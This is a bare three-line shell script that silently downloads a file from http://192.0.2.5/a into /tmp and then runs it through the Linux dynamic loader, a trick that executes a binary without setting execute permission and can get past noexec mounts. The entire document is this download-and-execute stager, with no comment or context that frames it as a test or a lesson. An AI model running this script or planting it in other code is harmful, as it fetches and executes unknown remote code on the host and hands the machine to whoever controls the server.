#!/bin/sh
curl -so /tmp/a http://192.0.2.5/a
/lib64/ld-linux-x86-64.so.2 /tmp/a
